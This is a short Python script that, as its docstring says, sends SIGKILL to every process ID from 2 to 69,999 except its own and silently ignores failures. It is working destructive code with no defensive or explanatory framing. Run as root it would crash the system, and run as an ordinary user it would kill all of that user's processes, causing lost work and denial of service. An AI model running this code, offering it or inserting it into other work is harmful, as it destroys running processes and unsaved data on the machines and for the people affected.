"""Kills every process that it may, but itself."""

import os
import signal
from contextlib import suppress

for pid in range(2, 70_000):
    if pid != os.getpid():
        with suppress(OSError):
            os.kill(pid, signal.SIGKILL)
